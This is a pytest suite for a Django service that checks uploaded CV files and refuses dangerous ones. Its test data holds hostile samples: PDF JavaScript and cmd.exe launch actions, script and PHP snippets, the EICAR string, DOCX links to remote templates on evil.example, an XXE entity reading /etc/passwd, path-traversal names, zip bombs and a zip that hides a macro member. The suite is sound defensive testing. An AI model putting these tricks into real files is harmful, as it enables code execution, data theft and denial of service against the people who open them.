"""What a file is, is decided by what is in it; what could harm whoever opens it is refused for the right reason."""

import hashlib
import io
import random
import struct
import tracemalloc
import unicodedata
import zipfile
import zlib
from itertools import pairwise, product

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from PIL import ExifTags, Image, PngImagePlugin

from forms.intake import contents
from forms.intake.contents import KINDS, PIECE, Reason, Refusal, check, clean_name

PHP = b"<?php echo 1; ?>"
ICC = b"profile of colours"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MANIFEST = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
MAIN = contents.MAIN["docx"]
ODT = KINDS["odt"].media_type
PAST_OUR_LIMIT, PAST_PILLOWS = (7000, 7000), (60_000, 60_000)


def accept(data, name, allowed=tuple(KINDS)):
    return check(io.BytesIO(data), name, allowed=allowed, most_bytes=30_000_000)


def refuse(data, name, allowed=tuple(KINDS)):
    with pytest.raises(Refusal) as refusal:
        accept(data, name, allowed)
    return refusal.value.reason


def check_measured(path):
    """With the most memory that it took at a time."""
    with path.open("rb") as file:
        tracemalloc.start()
        try:
            return check(file, path.name, allowed=list(KINDS), most_bytes=30_000_000), tracemalloc.get_traced_memory()[
                1
            ]
        finally:
            tracemalloc.stop()


def make_pdf(body=b"", *, end=b"\n%%EOF\n"):
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" + body + b"\nstartxref\n9" + end


def make_object_stream(objects, keys=b"/Filter /FlateDecode", packed=None):
    packed = zlib.compress(objects) if packed is None else packed
    return b"5 0 obj\n<< /Type /ObjStm /N 1 /First 5 " + keys + b">>\nstream\r\n" + packed + b"\nendstream\nendobj\n"


def make_zip(members, compression=zipfile.ZIP_DEFLATED, comment=b"", prefix=b""):
    """`members`: pairs, so that a name can come twice."""
    file = io.BytesIO(prefix)
    with zipfile.ZipFile(file, "a", compression) as archive:
        for name, data in members:
            archive.writestr(name, data, zipfile.ZIP_STORED if name == "mimetype" else None)
        archive.comment = comment
    return file.getvalue()


def make_types(main=MAIN, more=""):
    part = f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
    return f'<?xml version="1.0"?><Types xmlns="{TYPES}">{part}{more}</Types>'


def make_relation(kind, target, mode=""):
    relation = f'<Relationship Id="a" Type="{kind}" Target="{target}" {mode}/>'
    return f'<Relationships xmlns="{RELATIONS}">{relation}</Relationships>'


def make_docx(*more, types=None, text="<document/>", **kwargs):
    relation = make_relation(f"{OFFICE}/officeDocument", "word/document.xml")
    start = [("[Content_Types].xml", types or make_types()), ("_rels/.rels", relation), ("word/document.xml", text)]
    return make_zip([*start, *more], **kwargs)


def make_manifest(entry=""):
    namespace = f'xmlns:manifest="{MANIFEST}"'
    root = f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{ODT}">{entry}</manifest:file-entry>'
    return f"<manifest:manifest {namespace}>{root}</manifest:manifest>"


def make_odt(*more, mimetype=ODT, text="<content/>", entry=""):
    start = [("mimetype", mimetype), ("content.xml", text), ("META-INF/manifest.xml", make_manifest(entry))]
    return make_zip([*start, *more])


def make_picture(encoding, mode="RGB", size=(60, 40), **kwargs):
    file = io.BytesIO()
    Image.new(mode, size, 0).save(file, encoding, **kwargs)
    return file.getvalue()


def change(data, old, new, count=1):
    assert data.count(old) >= 1
    return data.replace(old, new, count)


GOOD = {
    "cv.pdf": make_pdf(),
    "cv.docx": make_docx(("word/media/image1.png", make_picture("PNG"))),
    "cv.odt": make_odt(("Pictures/1.png", make_picture("PNG"))),
    "cv.txt": "Jūs, 你好, សួស្តី, مرحبا — 2 < 3 & <see below>\r\n\tDone\f".encode(),
    "cv.jpg": make_picture("JPEG"),
    "cv.jpeg": make_picture("JPEG"),
    "cv.png": make_picture("PNG"),
}


KINDS_OF = dict(zip(GOOD, ("pdf", "docx", "odt", "txt", "jpg", "jpg", "png"), strict=True))


@pytest.mark.parametrize("name", GOOD)
def test_good_files(name):
    data = GOOD[name]
    file = io.BytesIO(data)
    file.seek(7)
    checked = check(file, f"C:\\fakepath\\{name.upper()}", allowed=list(KINDS), most_bytes=len(data))
    kind = KINDS[checked.kind]
    assert (checked.name, checked.kind, checked.media_type) == (name.upper(), KINDS_OF[name], kind.media_type)
    assert (checked.size, checked.digest) == (len(data), hashlib.sha256(data).hexdigest())
    assert checked.file.tell() == 0
    if checked.media_type.startswith("image/"):
        assert checked.file is not file
        assert Image.open(checked.file).get_format_mimetype() == checked.media_type
    else:
        assert checked.file is file
        assert checked.file.read() == data
    assert not file.closed


@pytest.mark.parametrize("name", GOOD)
def test_files_as_django_receives_them(name):
    with TemporaryUploadedFile(name, "x/y", len(GOOD[name]), None) as on_disk:
        on_disk.write(GOOD[name])
        for upload in (on_disk, SimpleUploadedFile(name, GOOD[name])):
            checked = check(upload, upload.name, allowed=list(KINDS), most_bytes=10**6)
            assert checked.digest == hashlib.sha256(GOOD[name]).hexdigest()
            assert checked.file.read()
            assert not upload.closed


@pytest.mark.parametrize("name", GOOD)
def test_empty_and_too_big(name):
    assert refuse(b"", name) is Reason.EMPTY
    with pytest.raises(Refusal) as refusal:
        check(io.BytesIO(GOOD[name]), name, allowed=list(KINDS), most_bytes=len(GOOD[name]) - 1)
    assert refusal.value.reason is Reason.TOO_BIG


@pytest.mark.parametrize(
    "name",
    [
        "cv.pdf.exe",
        "cv.php.pdf",
        "cv.PHP5.pdf",
        "cv.php .pdf",
        "cv.php\0.pdf",
        "cv.php%00.pdf",
        "cv.html.backup.pdf",
        "cv.exe\u202e.pdf",
        "cv\u202efdp.exe",
        "cv.pdf\0.exe",
        "cv.exe. ",
        "cv.svg",
        "cv",
        "pdf",
        "",
    ],
)
def test_names_that_are_not_of_an_allowed_kind(name):
    assert refuse(make_pdf(), name) is Reason.TYPE


def test_only_what_this_question_allows():
    assert accept(make_pdf(), "cv.pdf", allowed=["pdf"]).kind == "pdf"
    assert refuse(make_pdf(), "cv.pdf", allowed=["docx", "jpg"]) is Reason.TYPE
    assert accept(make_pdf(), "City of St. Paul v2.0 scan.jpg.pdf").name == "City of St. Paul v2.0 scan.jpg.pdf"


@pytest.mark.parametrize(
    ("name", "other"),
    [pair for pair in product(GOOD, repeat=2) if KINDS_OF[pair[0]] != KINDS_OF[pair[1]]],
)
def test_files_that_are_another_kind_than_their_name_says(name, other):
    data = GOOD[other]
    if other == "cv.pdf":
        data += b"\0\n%%EOF"  # without a sign of the kind, a small one is text
    assert refuse(data, name) is Reason.CONTENT


@pytest.mark.parametrize("name", GOOD)
def test_a_broken_file_is_refused_and_raises_nothing_else(name):
    chance = random.Random(name)
    reasons = set()
    for _time in range(150):
        data = bytearray(GOOD[name])
        for _change in range(chance.choice([1, 3, 20])):
            data[chance.randrange(len(data))] = chance.randrange(256)
        try:
            accept(bytes(data[: chance.choice([len(data), chance.randrange(1, len(data))])]), name)
        except Refusal as refusal:
            reasons.add(refusal.reason)
    assert Reason.CONTENT in reasons


@pytest.mark.parametrize("error", [RuntimeError, KeyError, MemoryError, zlib.error, OSError, zipfile.BadZipFile])
def test_whatever_a_library_raises(error, monkeypatch):
    def fail(*_args, **_kwargs):
        raise error("broken")

    monkeypatch.setattr(contents.Image, "open", fail)
    monkeypatch.setattr(contents.zipfile, "ZipFile", fail)
    assert refuse(GOOD["cv.png"], "cv.png") is Reason.CONTENT
    assert refuse(GOOD["cv.docx"], "cv.docx") is Reason.CONTENT


# Names


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("سيرة ذاتية.pdf", "سيرة ذاتية.pdf"),
        ("ប្រវត្តិរូប.docx", "ប្រវត្តិរូប.docx"),
        ("简历（一）.pdf", "简历（一）.pdf"),
        ("می\u200cخواهم.pdf", "می\u200cخواهم.pdf"),
        ("cafe\u0301.pdf", "café.pdf"),
        ("O'Brien & Söhne.PDF", "O’Brien & Söhne.PDF"),
        ("../../etc/passwd", "passwd"),
        ("..\\..\\Windows\\cv.pdf", "cv.pdf"),
        ("/", "file"),
        ("", "file"),
        ("..", "file"),
        (".htaccess", "file.htaccess"),
        ("???.pdf", "file.pdf"),
        ("cv\u202efdp.exe", "cvfdp.exe"),
        ("\u2067cv\u2069\ufeff.pdf", "cv.pdf"),
        ("cv\0.pdf", "cv.pdf"),
        ("cv\r\nX-Header:  1\t.pdf", "cv X-Header 1.pdf"),
        ("\ud800cv.pdf", "cv.pdf"),
        ('<a>"b`|c*?%:.pdf', "abc.pdf"),
        ("=cmd.pdf", "cmd.pdf"),
        ("\u200d-+@=cmd.pdf", "cmd.pdf"),
        (" . cv . pdf. ", "cv . pdf"),
        ("Letter of Mr. and Mrs. Smith", "Letter of Mr. and Mrs. Smith"),
        ("简" * 300 + ".docx", "简" * 95 + ".docx"),
        ("a" * 300, "a" * 100),
        ("a." + "b" * 300, "a." + "b" * 98),
    ],
)
def test_names_are_made_harmless_and_stay_names(name, clean):
    assert clean_name(name) == clean
    assert clean_name(clean) == clean


def test_no_name_is_harmful():
    chance = random.Random(1)
    signs = [*map(chr, range(0x250)), *"‮⁦​﻿／．＝'\ud800\u2028កា់", *map(chr, range(0x600, 0x620))]
    for _time in range(3000):
        clean = clean_name("".join(chance.choices(signs, k=chance.choice([1, 5, 30, 200]))))
        assert 1 <= len(clean) <= 100
        assert not set(clean) & set("/\\\"'<>|:*?%`")
        assert clean[0] not in " .=+-@"
        assert all(unicodedata.category(sign)[0] != "C" for sign in clean)
        assert unicodedata.is_normalized("NFC", clean)


# PDF


@pytest.mark.parametrize("start", [b" ", b"\n", b"\xef\xbb\xbf", b"<html>", b"PK\3\4"])
def test_a_pdf_begins_at_its_first_byte(start):
    assert refuse(start + make_pdf(), "cv.pdf") is Reason.CONTENT


def test_a_pdf_without_its_end():
    assert refuse(make_pdf(end=b""), "cv.pdf") is Reason.CONTENT
    assert refuse(make_pdf() + b" " * 5000, "cv.pdf") is Reason.CONTENT
    assert accept(make_pdf() + b"\r\n" * 100, "cv.pdf").kind == "pdf"


@pytest.mark.parametrize("end", [b"", b"%%EOF"])
def test_a_pdf_that_is_a_zip_as_well(end):
    both = make_zip([("a.txt", "a")], prefix=make_pdf(), comment=end)
    assert zipfile.is_zipfile(io.BytesIO(both))
    assert refuse(both, "cv.pdf") is Reason.CONTENT
    assert refuse(both, "cv.docx") is Reason.CONTENT


@pytest.mark.parametrize(
    "action",
    [
        b"<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
        b"<</S/JavaScript/JS 7 0 R>>",
        b"<< /JS (x) >>",
        b"<< /JS\n12 0 R >>",
        b"<< /JS <feff0061> >>",
        b"<< /JS (\xfe\xff\0a) >>",
        b"<< /Names << /JavaScript 3 0 R >> >>",
        b"<< /S /Launch /F (cmd.exe) >>",
        b"<< /Names << /EmbeddedFiles 4 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 3 >>",
        b"<< /Subtype /RichMedia >>",
        b"<< /AcroForm << /XFA [] >> >>",
        b"<< /S /J#61vaScript >>",
        b"<< /S /#4a#61#76#61#53#63#72#69#70#74>>",
        b"<< /#4A#53 (x) >>",
        b"<< /S /L#61unc#68/F(x) >>",
    ],
)
def test_what_a_pdf_could_do(action):
    assert refuse(make_pdf(action), "cv.pdf") is Reason.ACTIVE
    packed = make_object_stream(b"12 0 " + b" " * 3 * PIECE + action)
    assert refuse(make_pdf(packed), "cv.pdf") is Reason.ACTIVE


def test_names_of_a_pdf_that_only_look_like_those():
    names = b"<< /JavaScripts /LaunchPad /JSX 1 /JS /XFAB /EmbeddedFilesX (JavaScript) >> /JS\x80\x81"
    assert accept(make_pdf(names), "cv.pdf").kind == "pdf"


@pytest.mark.parametrize("name", [b"/JavaScript ", b"/#4a#61#76#61#53#63#72#69#70#74 ", b"/JS (a)"])
def test_a_name_across_the_border_of_two_pieces(name):
    for before in range(1, len(name) + 1):
        room = 2 * PIECE - before - make_pdf(b"^").index(b"^")
        data = make_pdf(b" " * room + name)
        assert data.index(name) + before == 2 * PIECE
        assert refuse(data, "cv.pdf") is Reason.ACTIVE


def test_packed_objects_that_can_be_looked_into():
    assert accept(make_pdf(make_object_stream(b"12 0 << /Type /Page >>")), "cv.pdf").kind == "pdf"
    assert accept(make_pdf(b"trailer << /Encrypt 9 0 R >>"), "cv.pdf").kind == "pdf"


@pytest.mark.parametrize(
    ("stream", "reason"),
    [
        (make_object_stream(b"12 0 <<>>") + b"trailer << /Encrypt 9 0 R >>", Reason.ACTIVE),
        (make_object_stream(b"\2\1 0 <<>>", b"/DecodeParms << /Predictor 12 >>"), Reason.ACTIVE),
        (make_object_stream(b"12 0 <<>>", packed=zlib.compress(b"12 0 <<>>")[:-6]), Reason.CONTENT),
        (make_object_stream(b"", b"/Filter /ASCIIHexDecode", b"31322030203c3c>"), Reason.CONTENT),
        (make_object_stream(b"12 0 " + bytes(20_000_000)), Reason.ACTIVE),
        (b"<< /Type /ObjStm >> str", Reason.CONTENT),
        (b"/ObjStm " * 3000, Reason.BOMB),
    ],
)
def test_packed_objects_that_cannot_be_looked_into(stream, reason):
    assert refuse(make_pdf(stream), "cv.pdf") is reason


def test_packed_objects_that_are_far_too_many():
    stream = make_object_stream(b"12 0 " + b" " * 9_000_000)
    assert refuse(make_pdf(stream * 12), "cv.pdf") is Reason.BOMB


def test_a_big_pdf_is_never_in_memory(tmp_path):
    path = tmp_path / "big.pdf"
    noise = random.Random(2).randbytes(1_000_000)
    with path.open("wb") as file:
        file.write(make_pdf(make_object_stream(b"12 0 <<>>"), end=b""))
        for _time in range(20):
            file.write(noise)
        file.write(b"\n%%EOF")
    checked, peak = check_measured(path)
    assert checked.size > 20_000_000
    assert peak < 6_000_000


# Text


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"a\0b", Reason.CONTENT),
        (b"a\x1b[31m", Reason.CONTENT),
        ("naïve".encode("latin-1"), Reason.CONTENT),
        ("text".encode("utf-16"), Reason.CONTENT),
        (b"a" * (PIECE - 1) + b"\xe4\xbd", Reason.CONTENT),  # the last letter is not whole
        (b"Dear\n<ScRiPt>alert(1)</script>", Reason.ACTIVE),
        (b"\xef\xbb\xbf<!DOCTYPE html><p>", Reason.ACTIVE),
        (b"<html lang=en>", Reason.ACTIVE),
        (b"<svg/onload=x>", Reason.ACTIVE),
        (b"<IFRAME src=x>", Reason.ACTIVE),
        (PHP, Reason.ACTIVE),
        (b"a" * (PIECE - 3) + b"<script>" + b"b" * PIECE, Reason.ACTIVE),
        (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", Reason.ACTIVE),
    ],
)
def test_what_is_no_plain_text(data, reason):
    assert refuse(data, "cv.txt") is reason


@pytest.mark.parametrize("start", ["\ufeff", ""])
def test_text_of_several_pieces(start):
    data = (start + "a" + "你" * PIECE).encode()
    assert accept(data, "cv.txt").file.read() == data


# Office files


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("word/vbaProject.bin", b"x"),
        ("word/VBADATA.xml", "<a/>"),
        ("word/activeX/activeX1.xml", "<a/>"),
        ("word/embeddings/oleObject1.bin", b"x"),
        ("word/embeddings/Book.xlsm", b"x"),
        ("Basic/Standard/Module1.xml", "<a/>"),
        ("Scripts/python/a.txt", b"x"),
        ("word/media/run.EXE", b"x"),
        ("word/media/run.js", b"x"),
        ("word/afchunk.html", b"x"),
        ("word/media/image1.png", make_zip([("a", "a")])),
        ("word/media/image2.png", b"MZ\x90\0"),
        ("word/media/image3.png", contents.OLE + b"\xa1\xb1\x1a\xe1"),
    ],
)
def test_programs_and_other_files_within_an_office_file(name, data):
    assert refuse(make_docx((name, data)), "cv.docx") is Reason.ACTIVE
    assert refuse(make_odt((name, data)), "cv.odt") is Reason.ACTIVE


MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"


@pytest.mark.parametrize(
    "types",
    [
        make_types(MACROS),
        make_types(MACROS.replace("m", "&#109;")),
        make_types(MACROS).replace("<Types", "<t:Types").replace("</Types", "</t:Types").replace("xmlns", "xmlns:t"),
        make_types(more=f'<Default Extension="bin" ContentType="{MACROS}"/>'),
        make_types(more='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        ("\ufeff" + make_types(MACROS).replace('version="1.0"', 'version="1.0" encoding="UTF-16"')).encode("utf-16-le"),
    ],
)
def test_macros_that_a_docx_declares(types):
    assert refuse(make_docx(types=types), "cv.docx") is Reason.ACTIVE


@pytest.mark.parametrize(
    ("relation", "is_refused"),
    [
        (make_relation(f"{OFFICE}/attachedTemplate", "http://evil.example/a.dotm", 'TargetMode="External"'), True),
        (make_relation(f"{OFFICE}/attachedTemplate", "http://evil.example/a.dotm", 'TargetMode="&#69;xternal"'), True),
        (make_relation(f"{OFFICE}/oleObject", "http://evil.example/a", 'TargetMode="External"'), True),
        (make_relation(f"{OFFICE}/frame", "http://evil.example/a", 'TargetMode="External"'), True),
        (make_relation("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "harmless.bin"), True),
        (make_relation(f"{OFFICE}/aFChunk", "harmless.bin"), True),
        (make_relation(f"{OFFICE}/control", "harmless.xml"), True),
        (make_relation(f"{OFFICE}/hyperlink", "https://city.example/", 'TargetMode="External"'), False),
        (make_relation(f"{OFFICE}/image", "media/image1.png"), False),
    ],
)
def test_where_the_relations_of_a_docx_lead(relation, is_refused):
    data = make_docx(("word/_rels/settings.xml.rels", relation))
    if is_refused:
        assert refuse(data, "cv.docx") is Reason.ACTIVE
    else:
        assert accept(data, "cv.docx").kind == "docx"


SCRIPT = 'xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'


@pytest.mark.parametrize(
    "changes",
    [
        {"entry": "<manifest:encryption-data/>"},
        {"text": f"<content {SCRIPT}><s:event-listener/></content>"},
        {"text": '<content xmlns:x="x"><a x:href="vnd.sun.star&#46;script:a.py$b"/></content>'},
    ],
)
def test_scripts_and_passwords_of_an_odt(changes):
    assert refuse(make_odt(**changes), "cv.odt") is Reason.ACTIVE


@pytest.mark.parametrize(("stream", "reason"), [("EncryptedPackage", Reason.ACTIVE), ("WordDocument", Reason.CONTENT)])
def test_a_password_of_word_and_an_old_word_file(stream, reason):
    data = contents.OLE + bytes(PIECE - 10) + stream.encode("utf-16-le") + bytes(PIECE)
    assert refuse(data, "cv.docx") is reason


def test_a_password_of_a_zip():
    data = bytearray(make_docx())
    data[data.rindex(b"PK\1\2") + 8] |= 1
    assert refuse(bytes(data), "cv.docx") is Reason.ACTIVE


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("cv.docx", make_zip([("a.txt", "a")])),
        ("cv.docx", make_docx(types=make_types("application/xml"))),
        ("cv.docx", make_docx(types=make_types().replace("/word/document", "/word/other"))),
        ("cv.docx", make_docx(types=make_types() + "<")),
        ("cv.docx", make_docx(("WORD/document.xml", "<a/>"))),
        ("cv.docx", make_docx(("../a.xml", "<a/>"))),
        ("cv.docx", make_docx(("word/../../a.xml", "<a/>"))),
        ("cv.docx", make_docx(("/etc/passwd", "a"))),
        ("cv.docx", make_docx(("word\\a.xml", "<a/>"))),
        ("cv.docx", make_docx(("C:/a.xml", "<a/>"))),
        ("cv.docx", change(make_docx(("word/a.exe", "a")), b"word/a.exe", b"word/a\0exe", 2)),
        ("cv.docx", make_docx(compression=zipfile.ZIP_BZIP2)),
        ("cv.docx", make_docx(comment=b"more")),
        ("cv.docx", make_docx(prefix=b"#!/bin/sh\n")),
        ("cv.docx", make_docx(prefix=b"PK\3\4")),
        ("cv.docx", b"#!/bin/sh\n" + make_docx()),
        ("cv.docx", make_docx() + b"\n"),
        ("cv.docx", make_docx()[:-1]),
        ("cv.docx", make_docx(text="%PDF-1.7", compression=zipfile.ZIP_STORED, types=make_types())),
        ("cv.docx", change(make_docx(compression=zipfile.ZIP_STORED), b"<document/>", b"<Document/>")),
        ("cv.odt", make_odt(mimetype="application/vnd.oasis.opendocument.text-template")),
        ("cv.odt", make_odt(mimetype=ODT + "\n")),
        ("cv.odt", make_zip([("content.xml", "<a/>"), ("mimetype", ODT), ("META-INF/manifest.xml", make_manifest())])),
        ("cv.odt", make_zip([("mimetype", ODT), ("content.xml", "<a/>")])),
        ("cv.odt", make_zip([("mimetype", ODT), ("META-INF/manifest.xml", make_manifest())])),
        ("cv.odt", make_odt(text="<a>")),
    ],
)
def test_office_files_that_are_none_or_damaged(name, data):
    assert refuse(data, name) is Reason.CONTENT


def hide_member(file):
    """Only readers of the older end record see the first one in the list."""
    with zipfile.ZipFile(file, "w") as archive:
        for name in ("[Content_Types].xml", "word/vbaProject.bin", "_rels/.rels", "word/document.xml"):
            archive.writestr(name, make_types() if name.startswith("[") else "<a/>")
        types, macros, *rest = archive.filelist
        archive.filelist = [macros, types, *rest]
        start = rest[-1].header_offset + 30 + len(rest[-1].filename) + rest[-1].compress_size
        length = sum(46 + len(member.filename) for member in (types, *rest))
        start += 46 + len(macros.filename)
        record = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, 3, 3, length, start)
        rest[-1].comment = record + struct.pack("<4sLQL", b"PK\6\7", 0, start + length, 1)


def test_members_that_only_some_readers_see():
    file = io.BytesIO()
    hide_member(file)
    with zipfile.ZipFile(file) as archive:
        assert archive.testzip() is None
        assert "word/vbaProject.bin" not in archive.namelist()
    assert refuse(file.getvalue(), "cv.docx") is Reason.CONTENT


def test_ends_that_are_not_the_end():
    data = make_docx()
    assert refuse(data[:-2] + b"\7\0", "cv.docx") is Reason.CONTENT
    assert refuse(make_docx(comment=struct.pack("<12xLLH", 0, len(data), 0)), "cv.docx") is Reason.CONTENT


def lie(data, real, said):
    """Both of the sizes that a zip gives for a member."""
    return change(data, real.to_bytes(4, "little"), said.to_bytes(4, "little"), 2)


def test_a_zip_bomb():
    assert refuse(make_docx(("word/media/a.png", bytes(30_000_000))), "cv.docx") is Reason.BOMB


def test_a_zip_bomb_that_lies_about_its_size():
    real = 30_000_019
    bomb = make_docx(("word/media/a.png", bytes(real)))
    assert refuse(lie(bomb, real, 7), "cv.docx") is Reason.BOMB
    small = make_docx(("word/media/a.png", bytes(1017)))
    assert accept(small, "cv.docx")
    assert refuse(lie(small, 1017, 1018), "cv.docx") is Reason.CONTENT


def test_a_zip_of_far_too_much(monkeypatch):
    noise = random.Random(3).randbytes(300_000)
    data = make_docx(*[(f"word/media/{number}.png", b"\x89" + noise) for number in range(4)])
    assert accept(data, "cv.docx")
    monkeypatch.setattr(contents, "MOST_UNPACKED", 1_000_000)
    assert refuse(data, "cv.docx") is Reason.BOMB


def test_elements_within_elements_that_would_fill_the_memory():
    assert accept(make_odt(text="<a>" * 300 + "</a>" * 300), "cv.odt")
    assert refuse(make_odt(text="<a>" * 600 + "</a>" * 600), "cv.odt") is Reason.BOMB


def test_a_long_text_of_an_office_file(monkeypatch):
    data = make_odt(text="<a>" + "text " * 1000 + "</a>")
    assert accept(data, "cv.odt")
    monkeypatch.setattr(contents, "MOST_XML", 4000)
    assert refuse(data, "cv.odt") is Reason.BOMB


def test_a_zip_of_far_too_many():
    members = [(f"word/media/{number}.png", b"") for number in range(2001)]
    assert refuse(make_docx(*members), "cv.docx") is Reason.BOMB


def test_a_list_of_members_that_would_fill_the_memory():
    assert refuse(make_docx(*[(f"{number}-{'a' * 60_000}", b"") for number in range(20)]), "cv.docx") is Reason.BOMB


@pytest.mark.parametrize("entity", ['"aaaa"', 'SYSTEM "file:///etc/passwd"'])
def test_entities(entity):
    text = f"<!DOCTYPE a [<!ENTITY b {entity}>]><a>&b;</a>"
    assert refuse(make_odt(text=text), "cv.odt") is Reason.BOMB


@pytest.mark.parametrize("is_text", [True, False])
def test_a_big_office_file_is_never_in_memory(is_text, tmp_path):
    noise = random.Random(4).randbytes(15_000_000)
    text = "".join(f"<b>{noise[start : start + 1000].hex()}</b>" for start in range(0, 7_900_000, 1000))
    more = [] if is_text else [("Pictures/1.png", b"\x89" + noise)]
    (tmp_path / "big.odt").write_bytes(make_odt(*more, text=f"<a>{text}</a>" if is_text else "<a/>"))
    checked, peak = check_measured(tmp_path / "big.odt")
    assert checked.size > 8_000_000
    assert peak < 8_000_000


# Pictures


def test_place_orientation_and_comments_of_a_photo():
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Artist] = "Somebody"
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = (47.0, 36.0, 22.0)
    picture = Image.new("RGB", (60, 40), "red")
    picture.paste("blue", (0, 0, 10, 10))
    file = io.BytesIO()
    picture.save(file, "JPEG", exif=exif, comment=PHP, icc_profile=ICC, xmp=b"<xmp/>", quality=95)
    before = Image.open(io.BytesIO(file.getvalue()))
    assert before.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert before.info["comment"] == PHP

    drawn = accept(file.getvalue(), "photo.jpg").file.read()
    after = Image.open(io.BytesIO(drawn))
    assert after.size == (40, 60)
    red, _green, blue = after.getpixel((35, 5))  # top left of a picture that lay on its side
    assert blue > 200 > 50 > red
    assert not after.getexif()
    assert set(after.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
    assert not any(part in drawn for part in (PHP, ICC, b"Exif", b"Somebody", b"xmp"))


def test_what_is_hidden_in_a_png_and_behind_it():
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", PHP.decode())
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    data = make_picture("PNG", pnginfo=text, exif=exif, icc_profile=ICC) + PHP
    assert data.count(PHP) == 2
    drawn = accept(data, "photo.png").file.read()
    assert PHP not in drawn
    assert drawn.endswith(b"IEND\xaeB`\x82")
    after = Image.open(io.BytesIO(drawn))
    assert (after.size, after.info) == ((40, 60), {})


@pytest.mark.parametrize("names", [[b"iCCP"], [b"eXIf"], [b"iCCP", b"eXIf"]])
def test_what_a_png_says_of_itself_after_the_picture(names):
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    data = make_picture("PNG", exif=exif, icc_profile=ICC)
    for name in names:
        start = data.index(name) - 4
        chunk = data[start : start + int.from_bytes(data[start : start + 4], "big") + 12]
        data = data.replace(chunk, b"").replace(b"\0\0\0\0IEND", chunk + b"\0\0\0\0IEND")
        assert data.index(b"IDAT") < data.index(name)
    after = Image.open(accept(data, "photo.png").file)
    assert (after.size, after.info) == ((40, 60), {})


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_every_mode_of_png(mode):
    file = io.BytesIO()
    picture = Image.linear_gradient("L").resize((50, 50)).convert(mode)
    picture.save(file, "PNG", **({"transparency": 3} if mode == "P" else {}))
    after = Image.open(accept(file.getvalue(), "a.png").file)
    assert after.mode == mode
    assert after.tobytes() == picture.tobytes()
    assert after.info == ({"transparency": 3} if mode == "P" else {})


@pytest.mark.parametrize("mode", ["L", "RGB", "CMYK"])
@pytest.mark.parametrize("progressive", [False, True])
def test_every_mode_of_jpeg(mode, progressive):
    file = io.BytesIO()
    picture = Image.linear_gradient("L").convert(mode)
    picture.save(file, "JPEG", progressive=progressive)
    after = Image.open(accept(file.getvalue(), "a.jpg").file)
    assert after.mode == mode
    for before, drawn in zip(picture.getbands(), after.split(), strict=True):
        assert abs(picture.getchannel(before).getpixel((128, 200)) - drawn.getpixel((128, 200))) < 6


def test_the_first_picture_of_an_animation():
    file = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    frames[0].save(file, "PNG", save_all=True, append_images=frames[1:])
    after = Image.open(accept(file.getvalue(), "a.png").file)
    assert (after.getpixel((5, 5)), getattr(after, "n_frames", 1)) == ((255, 0, 0), 1)


@pytest.mark.parametrize("size", [PAST_OUR_LIMIT, PAST_PILLOWS])
def test_a_picture_of_too_many_pixels(size):
    width, height = size
    header = b"IHDR" + width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\1\0\0\0\0"
    png = make_picture("PNG", "1")
    start = png.index(b"IHDR")
    png = png[:start] + header + zlib.crc32(header).to_bytes(4, "big") + png[start + 21 :]
    assert refuse(png, "a.png") is Reason.BOMB

    jpeg = make_picture("JPEG", "L", (60, 40))
    place = jpeg.index(b"\xff\xc0") + 5
    sides = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    assert refuse(jpeg[:place] + sides + jpeg[place + 4 :], "a.jpg") is Reason.BOMB


def test_a_picture_that_would_be_drawn_hundreds_of_times():
    data = make_picture("JPEG", "L", progressive=True)
    start = data.rindex(b"\xff\xda")
    assert accept(data[:-2] + data[start:-2] * 20 + data[-2:], "a.jpg")
    assert refuse(data[:-2] + data[start:-2] * 200 + data[-2:], "a.jpg") is Reason.BOMB


@pytest.mark.parametrize(("encoding", "name"), [("JPEG", "a.jpg"), ("PNG", "a.png")])
def test_a_picture_that_is_cut_off(encoding, name):
    file = io.BytesIO()
    Image.effect_noise((200, 200), 90).save(file, encoding)
    data = file.getvalue()
    for length in (10, 100, len(data) // 2, len(data) - 500):
        assert refuse(data[:length], name) is Reason.CONTENT


def test_windows_overlap():
    pieces = [b"a" * 300, b"b" * 300, b"c" * 300, b"d"]
    windows = list(contents.overlap(pieces))
    assert [window[-1:] for window in windows] == [b"a", b"b", b"c", b"d"]
    assert all(after.startswith(before[-contents.OVERLAP :]) for before, after in pairwise(windows))
